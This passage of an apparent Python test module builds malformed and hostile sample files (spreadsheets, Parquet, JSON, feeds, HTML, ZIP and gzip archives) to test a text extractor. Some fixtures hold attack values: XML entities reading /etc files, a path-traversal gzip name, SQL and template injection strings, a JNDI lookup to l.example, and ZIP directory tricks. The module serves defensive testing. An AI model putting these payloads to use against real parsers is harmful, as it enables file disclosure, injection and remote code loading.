"""Bad inputs of a fifth round: dumps, archives, scripts, settings, and what hostile hands make of values and packs."""

import bz2
import gzip
import io
import json
import quopri
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from datetime import datetime

import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq
from invented_exports import OK, docx, factiva, factiva_document, factiva_title, para, warc_record

from bad_inputs.archives import two, zipped
from bad_inputs.exports import lexis, nexis, proquest_of
from bad_inputs.json_values import listed
from bad_inputs.json_values import other as rec
from bad_inputs.kinds import Kind, Stories
from bad_inputs.pages import feed, item, linked
from bad_inputs.strange import copied
from bad_inputs.tables import SHEET, changed, rows, second, workbook

UNKNOWN, NOT_TEXT = ("form not known",), ("not text",)
# A Python since 3.11.8 reads the first of many names of one member, and refuses the others as a bomb.
REFUSED = 99 if "_end_offset" in zipfile.ZipInfo.__slots__ else 0


def saved(table: pa.Table) -> bytes:
    out = io.BytesIO()
    pq.write_table(table, out)
    return out.getvalue()


def arrays(s: Stories) -> list[pa.Array]:
    return [pa.array([record[name] for record in s.records()]) for name in ("title", "text")]


def book(s: Stories, change: Callable[[openpyxl.Workbook], object]) -> bytes:
    made, out = openpyxl.Workbook(), io.BytesIO()
    for row in rows(s):
        made.active.append(row)
    change(made)
    made.save(out)
    return out.getvalue()


def hide_row(made: openpyxl.Workbook) -> None:
    made.active.row_dimensions[3].hidden = True


def hide_sheet(made: openpyxl.Workbook) -> None:
    made.create_sheet("x")
    made.worksheets[0].sheet_state = "hidden"


def only_a_chart(made: openpyxl.Workbook) -> None:
    made.create_chartsheet("c")
    made.remove(made.worksheets[0])


def from_1904(made: openpyxl.Workbook) -> None:
    made.epoch = datetime(1904, 1, 1)


def lying(s: Stories) -> bytes:
    """Return a ZIP whose directory gives a member another size than it has."""
    data = bytearray(zipped(("a.txt", copied(s)), ("b.txt", b"x" * 3_000_000)))
    at = data.rindex(b"PK\x01\x02")
    data[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(data)


def collection(s: Stories) -> bytes:
    """Return a web archive with its index, its list of pages and its description, as a ZIP."""
    pages = [
        warc_record("response", s.page(n=n).encode(), http=OK, url=f"https://l.example/{n}").strip() + b"\r\n\r\n"
        for n in (1, 2)
    ]
    index = "".join(
        f'example,l)/{n} 2026030306120{n} {{"url":"https://l.example/{n}","mime":"text/html","status":"200","digest":'
        f'"sha1:AB","length":"900","offset":"{n}00","filename":"data.warc.gz"}}\n'
        for n in (1, 2)
    )
    listed_pages = (
        '{"format":"json-pages-1.0","id":"pages","title":"All Pages"}\n'
        '{"id":"1","url":"https://l.example/1","title":"Rain","ts":"2026-03-03T06:12:00Z"}\n'
    )
    return zipped(
        ("archive/data.warc.gz", gzip.compress(b"".join(pages))),
        ("indexes/index.cdx", index),
        ("pages/pages.jsonl", listed_pages),
        ("datapackage.json", json.dumps({"profile": "data-package", "resources": [{"name": "data.warc.gz"}]})),
    )


def with_a_path(s: Stories) -> bytes:
    """Return gzip that names a file of the system as its own."""
    data, packer = copied(s).encode(), zlib.compressobj(9, zlib.DEFLATED, -15)
    body = packer.compress(data) + packer.flush()
    head = b"\x1f\x8b\x08\x08\0\0\0\0\0\3../../etc/passwd\0"
    return head + body + struct.pack("<II", zlib.crc32(data), len(data))


class Stream(io.RawIOBase):
    """A file in which nobody can go back."""

    def __init__(self) -> None:
        self.data = io.BytesIO()

    def writable(self) -> bool:
        return True

    def write(self, data: bytes) -> int:
        return self.data.write(data)


def streamed(s: Stories) -> bytes:
    out = Stream()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("a.html", s.page(n=1))
        packed.writestr("b.html", s.page(n=2))
    return out.data.getvalue()


def of_64_bits(s: Stories) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        for n in (1, 2):
            with packed.open(f"{n}.html", "w", force_zip64=True) as file:
                file.write(s.page(n=n).encode())
    return out.getvalue()


def named_often(s: Stories) -> bytes:
    """Return a ZIP of one file that its directory names 100 times."""
    data = zipped(("a.txt", copied(s)))
    at, end = data.index(b"PK\x01\x02"), data.index(b"PK\x05\x06")
    entries = data[at:end] * 100
    return data[:at] + entries + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 100, 100, len(entries), at, 0)


def atom(content: Callable[[Stories, int], str]) -> Callable[[Stories], str]:
    head = '<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom"><title>Ledger</title>'

    def made(s: Stories) -> str:
        entries = (
            f"<entry><title>Rain {n}</title><id>urn:{n}</id><updated>2026-03-03T06:12:00Z</updated>"
            f'<link href="https://l.example/{n}"/>{content(s, n)}</entry>'
            for n in (1, 2)
        )
        return f"{head}{''.join(entries)}</feed>"

    return made


def wordpress(s: Stories) -> str:
    posts = "".join(
        f"<item><title>Rain {n}</title><link>https://l.example/?p={n}</link><pubDate>Tue, 03 Mar 2026 06:12:00 +0000"
        f"</pubDate><content:encoded><![CDATA[<!-- wp:paragraph --><p>{s.text(n)}</p><!-- /wp:paragraph -->]]>"
        "</content:encoded><wp:post_type>post</wp:post_type></item>"
        for n in (1, 2)
    )
    return (
        '<?xml version="1.0" encoding="UTF-8" ?><rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/'
        'content/" xmlns:wp="http://wordpress.org/export/1.2/"><channel><title>Ledger</title>'
        f"{posts}<item><title>rain.jpg</title><content:encoded><![CDATA[]]></content:encoded></item></channel></rss>"
    )


def references(s: Stories) -> str:
    return "".join(
        f"TY  - NEWS\nT1  - Rain {n} in {s.mark}\nAU  - Roe, Ana\nPY  - 2026\nAB  - {s.text(n)}\nER  - \n\n"
        for n in (1, 2, 3)
    )


def bibtex(s: Stories) -> str:
    return "".join(
        f"@article{{roe{n},\n  title = {{Rain {n}}},\n  author = {{Roe, Ana}},\n  abstract = {{{s.text(n)}}}\n}}\n\n"
        for n in (1, 2, 3)
    )


def dump(s: Stories) -> str:
    head = (
        "-- dump of articles\nDROP TABLE IF EXISTS articles;\nCREATE TABLE articles (id int, title text, body text);\n"
    )
    return head + "".join(f"INSERT INTO articles VALUES ({n}, 'Rain {n}', '{s.text(n)}');\n" for n in (1, 2, 3))


def in_yaml(s: Stories) -> str:
    return "".join(f"- title: Rain {n}\n  date: 2026-03-0{n}\n  text: {json.dumps(s.text(n))}\n" for n in (1, 2, 3))


def chrome(s: Stories) -> bytes:
    """Return MHTML as a browser saves it."""
    bound = b"----MultipartBoundary--abc----"
    head = (
        b"From: <Saved by Blink>\r\nSnapshot-Content-Location: https://l.example/rain\r\nSubject: Rain\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/related;\r\n\ttype="text/html";\r\n\tboundary="' + bound + b'"\r\n\r\n\r\n'
    )
    part = (
        b"Content-Type: text/html\r\nContent-ID: <f@mhtml.blink>\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n"
    )
    return (
        head + b"--" + bound + b"\r\n" + part + quopri.encodestring(s.page().encode()) + b"\r\n--" + bound + b"--\r\n"
    )


STYLES = "body{margin:0;padding:0;font-family:Georgia,serif}\n.header{display:flex;align-items:center}\n" * 40
SCRIPT = (
    "(function(){'use strict';var state={open:false,items:[]};function toggle(e){e.preventDefault();state.open=!state.open}\n"
    "document.addEventListener('click',toggle);window.dataLayer=window.dataLayer||[];})();\n" * 20
)

KINDS = [
    Kind("header cell over two lines", "a.csv", lambda s: s.table().replace("title", '"title\n(English)"', 1), 3),
    Kind("tildes between cells", "a.csv", lambda s: s.table(delimiter="~"), 3),
    Kind("Hive's sign between cells", "a.csv", lambda s: s.table(delimiter="\x01").replace('"', ""), 3),
    Kind("escapes of a MySQL dump", "a.tsv", lambda s: "title\tdate\ttext\n" + "".join(f"Rain {n}\t\\N\t{s.text(n)}\\n{s.text(n + 5)}\n" for n in (1, 2, 3)), 3),
    Kind("digits of full width in a date", "a.csv", lambda s: s.table(second(s, date="２０２６-０３-０２")), 3),
    Kind("Arabic digits in a date", "a.csv", lambda s: s.table(second(s, date="٢٠٢٦-٠٣-٠٢")), 3),
    Kind("time that no day has", "a.csv", lambda s: s.table(second(s, date="2026-03-02T25:61:61Z")), 3),
    Kind("leap second", "a.csv", lambda s: s.table(second(s, date="2016-12-31T23:59:60Z")), 3),
    Kind("midnight as 24:00", "a.csv", lambda s: s.table(second(s, date="2026-03-02T24:00:00")), 3),
    Kind("week date", "a.csv", lambda s: s.table(second(s, date="2026-W10-1")), 3),
    Kind("day of the year", "a.csv", lambda s: s.table(second(s, date="2026-061")), 3),
    Kind("zero-width space in the header", "a.csv", lambda s: "\u200b" + s.table(), 3),
    Kind("mark of direction in the header", "a.csv", lambda s: s.table().replace("text", "\u200ftext", 1), 3),
    Kind("carriage return in a quoted cell", "a.csv", lambda s: s.table(second(s, text=s.text(2) + "\r" + s.text(6))), 3),
    Kind("table with 4,096 NULs behind it", "a.csv", lambda s: s.table() + "\0" * 4096, 3),
    Kind("file of NULs", "a.csv", lambda s: b"\0" * 10_000, 0, ("empty file",)),
    Kind("two encodings in a table", "a.csv", lambda s: s.table().encode().replace(b"day 1", "d\u00e9j\u00e0 1".encode()).replace(b"day 3", "d\u00e9j\u00e0 3".encode("latin-1")), 3),
    Kind("whole rows in quotation marks", "a.csv", lambda s: "".join('"' + line.replace('"', '""') + '"\n' for line in s.table().splitlines()), 3),
    Kind("empty first column of names", "a.csv", lambda s: s.table().replace("title,date,text", ",date,text", 1), 3),
    Kind("header with numbers behind names", "a.csv", lambda s: s.table().replace("title,date,text", "title;;date;;text").replace(";;", ","), 3),
    Kind("two text columns, the first empty", "a.csv", lambda s: "title,content,text\n" + "".join(f'Rain {n},,"{s.text(n)}"\n' for n in (1, 2, 3)), 3),
    Kind("row of 100,000 commas", "a.csv", lambda s: s.table([*second(s), *[""] * 100_000]), 3),
    Kind("merged cells in a sheet", "a.xlsx", lambda s: book(s, lambda b: b.active.merge_cells("A2:A3")), 3),
    Kind("hidden rows in a sheet", "a.xlsx", lambda s: book(s, hide_row), 3),
    Kind("hidden sheet", "a.xlsx", lambda s: book(s, hide_sheet), 3),
    Kind("sheet of a chart alone", "a.xlsx", lambda s: book(s, only_a_chart), 0, ("damaged workbook",)),
    Kind("dates from 1904", "a.xlsx", lambda s: book(s, from_1904), 3),
    Kind("link as a formula in a sheet", "a.xlsx", lambda s: workbook(rows(s, second(s, title='=HYPERLINK("https://l.example","Rain")'))), 3),
    Kind("file named in a workbook", "a.xlsx", lambda s: changed(changed(workbook(rows(s)), SHEET, "<worksheet", '<!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/hostname">]><worksheet'), SHEET, "Rain 2", "&x;"), 0, ("damaged workbook",)),
    Kind("row number without end in a sheet", "a.xlsx", lambda s: changed(workbook(rows(s)), SHEET, '<row r="3"', '<row r="99999999999"'), 1, ("damaged workbook",)),
    Kind("column that no sheet has", "a.xlsx", lambda s: changed(workbook(rows(s)), SHEET, 'r="B2"', 'r="ZZZZZZ2"'), 0, ("damaged workbook",)),
    Kind("table of OpenDocument", "a.ods", lambda s: zipped(("mimetype", "application/vnd.oasis.opendocument.spreadsheet"), ("content.xml", f"<?xml version='1.0'?><a>{s.text()}</a>")), 0, UNKNOWN),
    Kind("binary workbook, another", "a.xlsb", lambda s: zipped(("[Content_Types].xml", "<Types/>"), ("xl/workbook.bin", b"\x83\x01")), 0, UNKNOWN),
    Kind("struct as text in Parquet", "a.parquet", lambda s: saved(pa.table({"title": arrays(s)[0], "text": pa.array([{"body": r["text"]} for r in s.records()])})), 3),
    Kind("column twice in Parquet", "a.parquet", lambda s: saved(pa.Table.from_arrays([*arrays(s), arrays(s)[1]], names=["title", "text", "text"])), 3),
    Kind("dictionaries and large strings in Parquet", "a.parquet", lambda s: saved(pa.table({"title": arrays(s)[0].dictionary_encode(), "text": arrays(s)[1].cast(pa.large_string())})), 3),
    Kind("times without days in Parquet", "a.parquet", lambda s: saved(pa.table({"title": arrays(s)[0], "text": arrays(s)[1], "date": pa.array([1, 2, 3], pa.time64("us"))})), 3),
    Kind("durations as dates in Parquet", "a.parquet", lambda s: saved(pa.table({"title": arrays(s)[0], "text": arrays(s)[1], "date": pa.array([1, 2, 3], pa.duration("s"))})), 3),
    Kind("map as text in Parquet", "a.parquet", lambda s: saved(pa.table({"title": arrays(s)[0], "text": pa.array([[("text", r["text"])] for r in s.records()], pa.map_(pa.string(), pa.string()))})), 3),
    Kind("bytes that are no UTF-8 in a string column of Parquet", "a.parquet", lambda s: saved(pa.table({"title": arrays(s)[0], "text": arrays(s)[1]})).replace(b"council", b"coun\xff\xfel"), 0, ('damaged Parquet file',)),
    Kind("encrypted Parquet", "a.parquet", lambda s: b"PARE" + random.Random(1).randbytes(500) + b"PARE", 0, NOT_TEXT),
    Kind("ORC", "a.orc", lambda s: b"ORC" + random.Random(1).randbytes(900), 0, NOT_TEXT),
    Kind("Avro", "a.avro", lambda s: b"Obj\x01" + random.Random(2).randbytes(900), 0, UNKNOWN),
    Kind("same key in two spellings", "a.json", lambda s: json.dumps([r | {"Title": "Hail"} for r in s.records()]), 3),
    Kind("line separators raw in strings", "a.jsonl", lambda s: s.lines(json.dumps(s.record(2, text=s.text(2) + "\u2028" + s.text(6)), ensure_ascii=False)), 3),
    Kind("line of NULs", "a.jsonl", lambda s: s.lines("\0" * 4096), 2, ("not valid JSON",)),
    Kind("number beyond all in another field", "a.json", lambda s: listed(s).replace('"title"', '"n": 1e400, "title"'), 3),
    Kind("features of a map", "a.json", lambda s: json.dumps({"type": "FeatureCollection", "features": [{"type": "Feature", "geometry": None, "properties": r} for r in s.records()]}), 3),
    Kind("extended JSON of MongoDB", "a.jsonl", lambda s: "".join(json.dumps(r | {"_id": {"$oid": "65a"}, "date": {"$date": {"$numberLong": "1772431200000"}}}) + "\n" for r in s.records()), 3),
    Kind("bulk file of a search engine", "a.ndjson", lambda s: "".join('{"index": {"_id": "1"}}\n' + json.dumps(r) + "\n" for r in s.records()), 3, ("no text",) * 3),
    Kind("rows of CouchDB", "a.json", lambda s: json.dumps({"total_rows": 3, "offset": 0, "rows": [{"id": "a", "key": "a", "doc": r} for r in s.records()]}), 3),
    Kind("edges and nodes", "a.json", lambda s: json.dumps({"data": {"articles": {"edges": [{"cursor": "x", "node": r} for r in s.records()]}}}), 3),
    Kind("graph of linked data", "a.json", lambda s: json.dumps({"@context": "https://schema.org", "@graph": [{"@type": "NewsArticle", "headline": r["title"], "datePublished": r["date"], "articleBody": r["text"]} for r in s.records()]}), 3),
    Kind("archive of posts as a script", "tweets.js", lambda s: "window.YTD.tweets.part0 = " + json.dumps([{"tweet": {"full_text": r["text"], "created_at": "Tue Mar 03 06:12:00 +0000 2026"}} for r in s.records()]), 3),
    Kind("posts of WordPress", "a.json", lambda s: json.dumps([{"id": 1, "date": r["date"], "title": {"rendered": r["title"]}, "content": {"rendered": f"<p>{r['text']}</p>", "protected": False}, "excerpt": {"rendered": "<p>Rain.</p>"}} for r in s.records()]), 3),
    Kind("chat export", "result.json", lambda s: json.dumps({"name": "Ledger", "type": "public_channel", "messages": [{"id": n, "type": "message", "date": "2026-03-03T06:12:00", "text": [{"type": "bold", "text": "Rain"}, " ", s.text(n)]} for n in (1, 2, 3)]}), 3),
    Kind("records in strings in records", "a.json", lambda s: json.dumps([{"payload": json.dumps(r)} for r in s.records()]), 3),
    Kind("objects with commas and no brackets", "a.json", lambda s: ",\n".join(map(json.dumps, s.records())), 3),
    Kind("text by language", "a.jsonl", lambda s: s.lines(json.dumps(s.record(2, text={"en": s.text(2)}))), 2, ("no text",)),
    Kind("authors as objects in objects", "a.jsonl", rec(author={"name": {"first": "Ana", "last": "Roe"}}), 3),
    Kind("date of numbers", "a.jsonl", rec(date={"year": 2026, "month": 3, "day": 2}), 3),
    Kind("date beyond the year 9999", "a.jsonl", rec(date=253402300800), 3),
    Kind("date 2 to the 63", "a.jsonl", rec(date=2**63), 3),
    Kind("date 1e308", "a.jsonl", rec(date=1e308), 3),
    Kind("date of a word of SQL", "a.jsonl", rec(date="'; DROP TABLE articles; --"), 3),
    Kind("offset with seconds", "a.jsonl", rec(date="2026-03-02T06:00:00+05:30:15"), 3),
    Kind("offset of a day", "a.jsonl", rec(date="2026-03-02T06:00:00+24:00"), 3),
    Kind("nine digits of a second", "a.jsonl", rec(date="2026-03-02T06:00:00.123456789Z"), 3),
    Kind("Persian date", "a.jsonl", rec(date="۱۴۰۴/۱۲/۱۲"), 3),
    Kind("address of a file", "a.jsonl", rec(url="file:///etc/passwd"), 3),
    Kind("address as data", "a.jsonl", rec(url="data:text/html,<script>alert(1)</script>"), 3),
    Kind("address with a port that is none", "a.jsonl", rec(url="https://l.example:99999999/a"), 3),
    Kind("address with a password", "a.jsonl", rec(url="https://ana:secret@l.example/a"), 3),
    Kind("address in letters of another script", "a.jsonl", rec(url="https://лedger.example/ä?ö=\u202e"), 3),
    Kind("outlet of two dots", "a.jsonl", rec(outlet=".."), 3),
    Kind("outlet of a NUL", "a.jsonl", rec(outlet="\0"), 3),
    Kind("outlet of 15,000 letters", "a.jsonl", rec(outlet="L" * 15_000), 3),
    Kind("outlet of marks", "a.jsonl", rec(outlet="\u0301" * 300), 3),
    Kind("section as numbers", "a.jsonl", rec(section=[1, 2.5, None, True]), 3),
    Kind("20,000 joined emoji", "a.jsonl", rec(title="👨\u200d👩\u200d👧" * 2000), 3),
    Kind("signs that are none", "a.jsonl", lambda s: s.lines(json.dumps(s.record(2, text=s.text(2).replace("council", "coun\ufdd0\U0001ffffcil")))), 3),
    Kind("words of a template in a text", "a.jsonl", lambda s: s.lines(json.dumps(s.record(2, text=s.text(2) + " {{7*7}} ${jndi:ldap://l.example/a} %n%s"))), 3),
    Kind("text of a million letters without a blank", "a.jsonl", lambda s: s.lines(json.dumps(s.record(2, text=s.text(2) + " " + "a" * 1_000_000))), 3),
    Kind("20,000 quotation marks open", "a.jsonl", lambda s: s.lines(json.dumps(s.record(2, text=s.text(2) + " “" * 20_000))), 3),
    Kind("HTML page as text in JSON", "a.jsonl", lambda s: s.lines(json.dumps(s.record(2, text=s.page(n=2)))), 3),
    Kind("text of entities twice", "a.jsonl", lambda s: s.lines(json.dumps(s.record(2, text=s.text(2).replace(" ", "&amp;nbsp;", 3)))), 3),
    Kind("records in YAML", "a.yaml", in_yaml, 0, UNKNOWN),
    Kind("header in YAML above Markdown", "a.md", lambda s: f"---\ntitle: Rain in {s.mark}\ndate: 2026-03-03\nlayout: post\ntags: [rain]\n---\n\n{s.long()}\n", 1),
    Kind("dump of a database", "a.sql", dump, 0, UNKNOWN),
    Kind("references in RIS", "a.ris", references, 0, UNKNOWN),
    Kind("references in BibTeX", "a.bib", bibtex, 0, UNKNOWN),
    Kind("calendar", "a.ics", lambda s: "BEGIN:VCALENDAR\r\nVERSION:2.0\r\n" + f"BEGIN:VEVENT\r\nDTSTART:20260303T061200Z\r\nSUMMARY:Rain in {s.mark}\r\nDESCRIPTION:{s.text()}\r\nEND:VEVENT\r\n" * 3 + "END:VCALENDAR\r\n", 0, UNKNOWN),
    Kind("card of a contact", "a.vcf", lambda s: "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Ana Roe\r\nORG:Ledger\r\nTEL:+1 555 0100\r\nNOTE:She covers the council of the town and the rain that fell\r\nEND:VCARD\r\n", 0, UNKNOWN),
    Kind("style sheet beside a page", "a_files/style.css", lambda s: STYLES, 0, UNKNOWN),
    Kind("script beside a page", "a_files/main.js", lambda s: SCRIPT, 0, UNKNOWN),
    Kind("source of a program", "a.py", lambda s: "import os\n\n\ndef rain(town: str) -> bool:\n    \"\"\"Say whether it rains.\"\"\"\n    return os.path.exists(town)\n\n" * 9, 0, UNKNOWN),
    Kind("shortcut to an address", "a.url", lambda s: "[InternetShortcut]\r\nURL=https://l.example/rain\r\nIconIndex=0\r\n", 0, UNKNOWN),
    Kind("shortcut of macOS", "a.webloc", lambda s: '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist version="1.0"><dict><key>URL</key><string>https://l.example</string></dict></plist>', 0, UNKNOWN),
    Kind("file that Word leaves while open", "~$a.docx", lambda s: b"\x03Ana" + b"\0" * 50 + "Ana".encode("utf-16-le") + b"\0" * 100, 0, NOT_TEXT),
    Kind("PostScript", "a.ps", lambda s: "%!PS-Adobe-3.0\n%%Title: Rain\n/Times findfont 12 scalefont setfont\n" + f"72 700 moveto ({s.text()}) show\n" * 5 + "showpage\n", 0, UNKNOWN),
    Kind("PDF below a blank line", "a.txt", lambda s: b"\n%PDF-1.7\n" + b"1 0 obj << /Length 44 >> stream\nBT (Rain fell on the town there) Tj ET\nendstream endobj\n" * 9, 0, UNKNOWN),
    Kind("PDF below a byte-order mark", "a.txt", lambda s: b"\xef\xbb\xbf%PDF-1.4\n" + b"1 0 obj << /Length 44 >> stream\nBT (Rain fell on the town there) Tj ET\nendstream endobj\n" * 9, 0, UNKNOWN),
    Kind("RTF below a blank", "a.rtf", lambda s: " \r\n{\\rtf1\\ansi\\deff0 {\\fonttbl {\\f0 Times;}}\\f0\\fs24 " + s.text() + "\\par " + s.text(2) + "\\par}", 0, UNKNOWN),
    Kind("LaTeX", "a.tex", lambda s: "\\documentclass{article}\n\\usepackage{url}\n\\begin{document}\n\\section{Rain}\n" + s.long() + "\n\\end{document}\n", 0, UNKNOWN),
    Kind("message of PGP", "a.asc", lambda s: "-----BEGIN PGP MESSAGE-----\n\n" + "hQEMA7Y+abc/DEF0AQf9H\n" * 30 + "=abcd\n-----END PGP MESSAGE-----\n", 0, UNKNOWN),
    Kind("UUencode", "a.uue", lambda s: "begin 644 a.txt\n" + "M4F%I;B!F96QL(&]N('1H92!T;W=N(&]F($UA<FQO=RX*4F%I;B!F96QL(&]N\n" * 30 + "`\nend\n", 0, UNKNOWN),
    Kind("log of a server", "access.log", lambda s: '192.0.2.1 - - [03/Mar/2026:06:12:00 +0000] "GET /rain HTTP/1.1" 200 512 "-" "Mozilla/5.0"\n' * 40, 0, UNKNOWN),
    Kind("index of a web archive", "a.cdxj", lambda s: "".join(f'example,l)/{n} 20260303061200 {{"url":"https://l.example/{n}","mime":"text/html","status":"200","digest":"AB","length":"900","offset":"0","filename":"d.warc.gz"}}\n' for n in range(9)), 0, UNKNOWN),
    Kind("e-book of Mobipocket", "a.mobi", lambda s: b"Rain\0" * 8 + b"\0" * 20 + b"BOOKMOBI" + random.Random(3).randbytes(900), 0, NOT_TEXT),
    Kind("text in EBCDIC and NULs", "a.txt", lambda s: b"\0".join(s.long().encode("cp037")[n:n + 1] for n in range(400)), 0, NOT_TEXT),
    Kind("line of 3 million blanks", "a.txt", lambda s: copied(s) + " " * 3_000_000, 1),
    Kind("text marked up for a wiki", "a.wiki", lambda s: f"== Rain in {s.mark} ==\n\n{s.long().replace('council', '[[council|the council]]')}\n\n[[Category:Rain]]\n", 1),
    Kind("story between rules of Markdown", "a.md", lambda s: f"# Rain in {s.mark}\n\n*By Ana Roe*\n\n---\n\n{s.long()}\n\n---\n", 1),
    Kind("page that says UTF-16 and is not", "a.html", lambda s: s.page(head='<meta charset="utf-16">'), 1),
    Kind("page in UTF-16 without a mark", "a.html", lambda s: s.page().encode("utf-16-le"), 1),
    Kind("page that is user-defined", "a.html", lambda s: s.page(head='<meta charset="x-user-defined">'), 1),
    Kind("base in the file system", "a.html", lambda s: s.page(head='<base href="file:///etc/">'), 1),
    Kind("100,000 attributes", "a.html", lambda s: s.page("<p " + " ".join(f"a{n}=1" for n in range(100_000)) + ">Rain.</p>"), 1),
    Kind("reference beyond all signs", "a.html", lambda s: s.page("<p>&#x1F600000;&#99999999999999;&#0;&#xD800;</p>"), 1),
    Kind("page that is one comment", "a.html", lambda s: "<!-- " + s.page(), 1),
    Kind("title never closed", "a.html", lambda s: s.page().replace("</title>", ""), 1),
    Kind("20,000 fonts in one another", "a.html", lambda s: s.page("<font>" * 20_000), 0, ("over the limit: depth",)),
    Kind("frame with the page in an attribute", "a.html", lambda s: "<html><body><iframe srcdoc='" + s.page().replace("'", "") + "'></iframe></body></html>", 0, ("no body found",)),
    Kind("linked data in a comment", "a.html", lambda s: s.page(head='<script type="application/ld+json"><!-- {"@type": "NewsArticle", "datePublished": "2026-03-03"} --></script>'), 1),
    Kind("linked data of 50,000 objects", "a.html", lambda s: s.page(head=linked("[" + ",".join(['{"@type":"Thing"}'] * 50_000) + "]")), 1),
    Kind("date that is a list in linked data", "a.html", lambda s: s.page(head=linked({"datePublished": [["2026-03-03"]], "headline": ["Rain", {}]})), 1),
    Kind("page by SingleFile", "a.html", lambda s: s.page(before="<!-- Page saved with SingleFile \n url: https://l.example/rain \n saved date: Tue Mar 03 2026 -->", head="<style>:root{--sf-img-1:url(data:image/png;base64,iVBOR)}</style>"), 1),
    Kind("page packed by brotli", "a.html.br", lambda s: b"\x1b\xff\x07\x00" + random.Random(4).randbytes(900), 0, NOT_TEXT),
    Kind("source of a page as shown", "a.html", lambda s: "<html><body><pre>" + s.page().replace("&", "&amp;").replace("<", "&lt;") + "</pre></body></html>", 1),
    Kind("MHTML of a browser", "a.mhtml", chrome, 1),
    Kind("MHTML with parts in parts", "a.mht", lambda s: b'MIME-Version: 1.0\r\nSubject: Rain\r\nContent-Type: multipart/related; boundary="o"\r\n\r\n--o\r\nContent-Type: multipart/alternative; boundary="i"\r\n\r\n--i\r\nContent-Type: text/plain\r\n\r\nRain.\r\n--i\r\nContent-Type: text/html; charset=utf-8\r\n\r\n' + s.page().encode() + b"\r\n--i--\r\n--o--\r\n", 1),
    Kind("MHTML 300 parts deep", "a.mht", lambda s: b"MIME-Version: 1.0\r\nSubject: Rain\r\n" + b"".join(b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (n, n) for n in range(300)) + b"Content-Type: text/html\r\n\r\n" + s.page().encode(), 1),
    Kind("e-mail in HTML", "a.eml", lambda s: b"From: ana@l.example\r\nTo: tom@l.example\r\nSubject: Rain\r\nDate: Tue, 3 Mar 2026 06:12:00 +0000\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + s.page().encode(), 0, UNKNOWN),
    Kind("e-mail with a table attached", "a.eml", lambda s: b'From: ana@l.example\r\nTo: tom@l.example\r\nSubject: Rain\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="x"\r\n\r\n--x\r\nContent-Type: text/plain\r\n\r\nSee the table.\r\n--x\r\nContent-Type: text/csv\r\n\r\n' + s.table().encode() + b"\r\n--x--\r\n", 0, UNKNOWN),
    Kind("Atom with plain text", "a.atom", atom(lambda s, n: f'<content type="text">{s.text(n)}</content>'), 2),
    Kind("Atom with text elsewhere", "a.atom", atom(lambda s, n: '<content type="text/html" src="https://l.example/full"/>'), 0, ("no text",) * 2),
    Kind("Atom with markup in markup", "a.atom", atom(lambda s, n: f'<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>{s.text(n)}</p></div></content>'), 2),
    Kind("Atom with base64", "a.atom", atom(lambda s, n: '<content type="image/png">iVBORw0KGgo=</content>'), 0, ("no story",) * 2),
    Kind("feed that says UTF-16 and is not", "a.xml", lambda s: feed(s, before='<?xml version="1.0" encoding="UTF-16"?>'), 3),
    Kind("feed in an encoding that is not there", "a.xml", lambda s: feed(s, before='<?xml version="1.0" encoding="x-none"?>'), 3),
    Kind("feed with a style of its own", "a.xml", lambda s: feed(s, before='<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="file:///etc/passwd"?>'), 3),
    Kind("feed with a file as an entity", "a.xml", lambda s: feed(s, item(s, 2).replace("<p>", "<p>&x; "), before='<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/hostname">]>'), 3),
    Kind("feed in a name space of its own", "a.xml", lambda s: feed(s).replace("<rss ", '<rss xmlns="http://backend.userland.com/rss2" '), 3),
    Kind("CDATA never closed", "a.xml", lambda s: feed(s, item(s, 2).replace("]]>", "")), 3),
    Kind("export of WordPress", "a.xml", wordpress, 2, ("no text",)),
    Kind("two feeds in a file", "a.xml", lambda s: feed(s) + feed(s), 3, repeats=3),
    Kind("ZIP written as a stream", "a.zip", streamed, 2),
    Kind("ZIP of 64 bits", "a.zip", of_64_bits, 2),
    Kind("size of a member that is a lie", "a.zip", lying, 1, ("damaged zip member",)),
    Kind("ZIP in parts", "a.zip", lambda s: b"PK\x07\x08" + two(s), 0, NOT_TEXT),
    Kind("name of a member in no encoding", "a.zip", lambda s: two(s, names=("Xaaaa.txt", "b.html")).replace(b"Xaaaa", b"X\xff\xfe\x80\x81"), 2),
    Kind("workbook, table and Word in a ZIP", "a.zip", lambda s: zipped(("a.xlsx", workbook(rows(s))), ("b.docx", docx(para(f"Rain in {s.mark}"), *map(para, s.long().split("\n\n"))))), 4),
    Kind("web archive collection", "a.wacz", collection, 2, ("form not known", "no text", "no text", "no text")),
    Kind("path in the head of gzip", "a.txt.gz", with_a_path, 1),
    Kind("zeros behind gzip", "a.txt.gz", lambda s: gzip.compress(copied(s).encode()) + b"\0" * 512, 1),
    Kind("gzip named as a page", "a.html", lambda s: gzip.compress(s.table().encode()), 3),
    Kind("tar of bzip2", "a.tar.bz2", lambda s: bz2.compress(s.long().encode()), 0, UNKNOWN),
    Kind("CAB", "a.cab", lambda s: b"MSCF\0\0\0\0" + random.Random(5).randbytes(900), 0, UNKNOWN),
    Kind("ar", "a.deb", lambda s: b"!<arch>\ndebian-binary   1342943816  0     0     100644  4         `\n2.0\n" + random.Random(6).randbytes(900), 0, UNKNOWN),
